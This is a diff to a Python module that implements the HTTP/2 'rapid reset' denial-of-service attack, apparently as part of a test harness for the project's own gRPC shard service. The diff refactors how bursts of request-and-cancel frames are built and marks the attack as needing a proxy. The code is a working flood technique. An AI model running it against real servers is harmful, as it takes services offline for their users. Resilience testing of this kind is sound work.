@@ -7,6 +7,7 @@ import socket
 import struct
 import sys
 import time
+from collections.abc import Iterable, Iterator
 from contextlib import suppress
 
 from attacks.harness import Attack, Begin, Counts, Target, main
@@ -16,7 +17,7 @@ from headrace.v1 import shard_service_pb2 as pb
 _METHODS = ("ReadBatches", "ListDatasets", "GetDataset")
 CANCEL = struct.pack(">I", 8)
 _BURST = 2000
-REQUEST = pb.ReadBatchesRequest(
+_REQUEST = pb.ReadBatchesRequest(
     dataset="small", global_batch_size=100, world_size=1, epoch_start=pb.EpochStart()
 ).SerializeToString()
 
@@ -24,6 +25,16 @@ REQUEST = pb.ReadBatchesRequest(
 def blocks_of(target: Target) -> list[bytes]:
     """Return the headers of calls of several methods."""
     return [header_block(f"/headrace.v1.ShardService/{name}", target.metadata) for name in _METHODS]
+
+
+def resets(target: Target, count: int) -> bytes:
+    """Return the frames of calls that are reset at once, all that a connection brings."""
+    return b"".join(_reset_calls(blocks_of(target), range(1, 2 * count, 2)))
+
+
+def _reset_calls(blocks: list[bytes], streams: Iterable[int]) -> Iterator[bytes]:
+    for block, stream in zip(itertools.cycle(blocks), streams, strict=False):
+        yield call(stream, block, _REQUEST) + frame(RST_STREAM, 0, stream, CANCEL)
 
 
 def _strike(target: Target, begin: Begin) -> Counts:
@@ -41,18 +52,12 @@ def _reset(connection: socket.socket, blocks: list[bytes], until: float) -> int:
     resets = 0
     streams = itertools.count(1, 2)
     while time.monotonic() < until and drain(connection):
-        frames = bytearray()
-        for block in itertools.islice(itertools.cycle(blocks), _BURST):
-            stream = next(streams)
-            frames += call(stream, block, REQUEST) + frame(RST_STREAM, 0, stream, CANCEL)
-        connection.sendall(frames)
+        connection.sendall(b"".join(_reset_calls(blocks, itertools.islice(streams, _BURST))))
         resets += _BURST
     return resets
 
 
-# For 0.2 to 0.4 s of a round an honest call waits behind those that the connection may have; then
-# it keeps 0.50 to 0.86 of its rate in rounds of 3 and 4 s.
-ATTACK = Attack("rapid reset", _strike)
+ATTACK = Attack("rapid reset", _strike, needs_proxy=True)
 
 if __name__ == "__main__":
     sys.exit(main(ATTACK))
